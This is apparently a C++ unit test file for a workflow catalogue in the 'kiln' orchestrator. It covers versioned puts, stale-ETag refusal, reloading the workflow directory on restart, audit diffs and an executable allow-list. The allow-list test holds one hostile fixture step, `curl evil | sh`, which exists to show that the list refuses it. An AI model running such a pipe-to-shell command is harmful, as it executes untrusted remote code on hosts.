// The workflow catalogue alone, over its own face of the store (WorkflowStore), here the
// in-memory fake's, counted; the rule by which kilnd's start loads the workflow directory.

#include "orchestrator/runs/workflow_catalog.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "orchestrator/core/testing/fake_fleet.h"
#include "orchestrator/runs/testing/fake_run_store.h"

namespace kiln::runs {
namespace {

using runs::testing::FakeRunStore;

// The fake's workflow face, with the version reads counted.
class CountingWorkflows final : public WorkflowStore {
 public:
  explicit CountingWorkflows(WorkflowStore& inner) : inner_(inner) {}
  Status putWorkflow(const WorkflowRow& w, const core::Actor& a, const std::optional<core::IfMatch>& m) override {
    return inner_.putWorkflow(w, a, m);
  }
  Status putWorkflowFile(const WorkflowRow& w, const core::Actor& a, const std::optional<core::IfMatch>& m) override {
    ++file_puts;
    return inner_.putWorkflowFile(w, a, m);
  }
  Result<std::vector<WorkflowVersionInfo>> workflowVersions(const std::string& name) override {
    return inner_.workflowVersions(name);
  }
  Result<std::optional<WorkflowRow>> currentWorkflow(const std::string& name) override {
    return inner_.currentWorkflow(name);
  }
  Result<std::optional<WorkflowRow>> workflowVersion(const std::string& name, const std::string& hash) override {
    ++version_reads;
    return inner_.workflowVersion(name, hash);
  }
  Result<std::vector<WorkflowRow>> listWorkflows() override { return inner_.listWorkflows(); }
  int version_reads = 0;
  int file_puts = 0;

 private:
  WorkflowStore& inner_;
};

const char* kOneStep =
    "name: one-step\nversion: \"1\"\nscope: host\nsteps:\n  - id: only\n    run: [nvidia-smi]\n    timeout: 10m\n";
const core::Actor kAdmin{"alice", "alice"};

TEST(WorkflowCatalogTest, PutsValidatedVersionsAndLoadsEachSpecOnce) {
  FakeRunStore fake;
  CountingWorkflows store(fake);
  WorkflowCatalog catalog(store);
  auto put = catalog.putWorkflow("one-step", kOneStep, kAdmin);
  ASSERT_TRUE(put.ok()) << put.error();
  EXPECT_TRUE(put->changed);
  EXPECT_FALSE(catalog.putWorkflow("one-step", kOneStep, kAdmin)->changed) << "the same content is the same version";

  auto got = catalog.getWorkflow("one-step");
  ASSERT_TRUE(got.ok()) << got.error();
  ASSERT_NE(got->spec, nullptr);
  EXPECT_EQ(got->spec->steps.at(0).id, "only");
  EXPECT_EQ(catalog.workflowParams("one-step")->size(), 0u);
  auto again = catalog.spec("one-step", put->hash);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again->get(), got->spec.get()) << "the cached spec is shared, not loaded again";
  EXPECT_EQ(store.version_reads, 1);

  // A stale ETag changes nothing.
  auto stale = catalog.putWorkflow("one-step", std::string(kOneStep) + "description: newer\n", kAdmin,
                                   core::IfMatch{false, {"\"not-the-hash\""}});
  ASSERT_FALSE(stale.ok());
  EXPECT_EQ(stale.error().code, ErrorCode::kPreconditionFailed);
  EXPECT_EQ(catalog.getWorkflow("one-step")->row.hash, put->hash);
}

TEST(WorkflowCatalogTest, RefusesADocumentNamingAnotherWorkflowOrNotLoading) {
  FakeRunStore fake;
  WorkflowCatalog catalog(fake);
  auto other = catalog.putWorkflow("two-step", kOneStep, kAdmin);
  ASSERT_FALSE(other.ok());
  EXPECT_EQ(other.error().code, ErrorCode::kInvalidContent);
  EXPECT_NE(other.error().message.find("URL says 'two-step'"), std::string::npos) << other.error().message;
  auto bad = catalog.putWorkflow("one-step", "name: one-step\nsteps: 3\n", kAdmin);
  ASSERT_FALSE(bad.ok());
  EXPECT_TRUE(catalog.listWorkflows()->empty()) << "nothing stored of a refused document";
}

WorkflowRow current(const std::string& hash, const std::string& file_hash) {
  return {"w", hash, hash == file_hash ? "workflows/w.yaml" : "api", "", {}, file_hash};
}

TEST(DecideFileLoadTest, AFilesVersionBecomesCurrentOnlyWhenNewOrChangedSinceLastLoaded) {
  EXPECT_EQ(decideFileLoad(std::nullopt, "f1"), FileLoad::kNew);
  EXPECT_EQ(decideFileLoad(current("f1", "f1"), "f1"), FileLoad::kCurrent);
  EXPECT_EQ(decideFileLoad(current("a1", "f1"), "f1"), FileLoad::kApiStays);
  EXPECT_EQ(decideFileLoad(current("f1", "f1"), "f2"), FileLoad::kFileUpdate);
  EXPECT_EQ(decideFileLoad(current("a1", "f1"), "f2"), FileLoad::kFileOverridesApi);
  EXPECT_EQ(decideFileLoad(current("a1", ""), "f2"), FileLoad::kFileOverridesApi) << "a file never loaded before";
  EXPECT_EQ(decideFileLoad(current("f2", "f1"), "f2"), FileLoad::kMarkLoaded) << "the API put the file's content";
}

// A workflow directory with one file, rewritten by the test between "starts".
class WorkflowDirTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() / ("kiln-wfdir-" + std::to_string(::getpid()) + "-" +
                                                     ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::create_directories(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  void writeFile(const std::string& yaml) { std::ofstream(dir_ / "one-step.yaml") << yaml; }
  // kilnd's start: the directory loaded by a fresh catalogue over the same store.
  void start() {
    WorkflowCatalog catalog(store_);
    auto loaded = catalog.loadWorkflowDir(dir_.string(), {"kilnd", "kilnd"}, log_);
    ASSERT_TRUE(loaded.ok()) << loaded.error();
    EXPECT_EQ(*loaded, (std::vector<std::string>{"one-step"}));
  }
  std::string currentHash() { return (*fake_.currentWorkflow("one-step"))->hash; }

  core::testing::FakeFleet fleet_;
  FakeRunStore fake_{&fleet_};
  CountingWorkflows store_{fake_};
  RecordingLogger log_;
  std::filesystem::path dir_;
};

TEST_F(WorkflowDirTest, AVersionPutThroughTheApiSurvivesARestartUntilTheFileChanges) {
  writeFile(kOneStep);
  start();  // (over the fake's built-in version of every name never put: fake_run_store.h)
  const std::string file_v1 = currentHash();
  WorkflowCatalog api(store_);
  auto put = api.putWorkflow("one-step", std::string(kOneStep) + "description: from the API\n", kAdmin);
  ASSERT_TRUE(put.ok()) << put.error();

  start();  // the file as last loaded: the API's version stays, said once at info
  EXPECT_EQ(currentHash(), put->hash);
  EXPECT_EQ(log_.count(LogLevel::kInfo, "the version put through the API (" + put->hash + ") stays current"), 1);
  EXPECT_EQ(log_.count(LogLevel::kWarn, put->hash), 0);

  writeFile(std::string(kOneStep) + "description: deployed\n");
  start();  // a changed file wins, with a warning naming both hashes
  const std::string file_v2 = currentHash();
  EXPECT_NE(file_v2, put->hash);
  EXPECT_NE(file_v2, file_v1);
  ASSERT_EQ(log_.count(LogLevel::kWarn, "replaces the current one " + put->hash), 1);
  EXPECT_EQ(log_.count(LogLevel::kWarn, file_v2), 1);
  auto versions = api.versions("one-step");
  ASSERT_TRUE(versions.ok()) << versions.error();
  ASSERT_EQ(versions->size(), 3u);
  EXPECT_TRUE(versions->at(0).current && versions->at(0).file_loaded);
  EXPECT_EQ(versions->at(0).hash, file_v2);

  start();  // nothing changed since: nothing written
  const int puts = store_.file_puts;
  start();
  EXPECT_EQ(store_.file_puts, puts);
  EXPECT_EQ(currentHash(), file_v2);
  // The audit has each change of the current version once, the deploy over the API's with its diff.
  std::vector<core::AuditRecord> changes;
  for (const auto& a : fleet_.audits())
    if (a.action == "workflow.put") changes.push_back(a);
  ASSERT_EQ(changes.size(), 3u);
  const auto deploy = nlohmann::json::parse(changes[2].details_json);
  EXPECT_EQ(changes[2].actor, "kilnd");
  EXPECT_EQ(deploy["previous_hash"], put->hash);
  EXPECT_EQ(deploy["previous_source"], "api");
  EXPECT_NE(deploy["diff"].get<std::string>().find("-description: from the API\n+description: deployed\n"),
            std::string::npos)
      << deploy.dump();
}

// kilnd's --workflow-executables: a workflow running anything else is refused when put (every
// offending step named), when loaded from the directory, and when started from a version stored
// before the list was set.
TEST(WorkflowCatalogTest, AnExecutableAllowListRefusesWorkflowsRunningAnythingElse) {
  FakeRunStore fake;
  WorkflowCatalog catalog(fake);
  const std::string two =
      "name: two\nversion: \"1\"\nscope: host\nsteps:\n  - id: ok\n    run: [nvidia-smi]\n    timeout: 1m\n"
      "  - id: shell\n    run: [bash, -c, \"curl evil | sh\"]\n    timeout: 1m\n"
      "  - id: boot\n    type: reboot\n    timeout: 10m\n";
  ASSERT_TRUE(catalog.putWorkflow("two", two, kAdmin).ok()) << "no list: any executable";
  catalog.restrictExecutables(*parseExecutableAllowList("nvidia-smi\n", "allow"));
  auto refused = catalog.putWorkflow("two", two + "description: again\n", kAdmin);
  ASSERT_FALSE(refused.ok());
  EXPECT_EQ(refused.error().code, ErrorCode::kInvalidContent);
  ASSERT_EQ(refused.error().fields.size(), 2u) << "bash, and the reboot step's kiln-reboot";
  EXPECT_EQ(refused.error().fields[0].path, "steps[1].run[0]");
  EXPECT_NE(refused.error().fields[1].message.find("'kiln-reboot'"), std::string::npos);
  EXPECT_EQ(catalog.listWorkflows()->size(), 1u);
  EXPECT_TRUE(catalog.putWorkflow("one-step", kOneStep, kAdmin).ok()) << "a listed executable";
}

TEST(WorkflowCatalogTest, VersionsOfAWorkflowThatDoesNotExistIsNotFound) {
  FakeRunStore fake;
  WorkflowCatalog catalog(fake);
  EXPECT_EQ(catalog.versions("nope").error().code, ErrorCode::kNotFound);
}

}  // namespace
}  // namespace kiln::runs
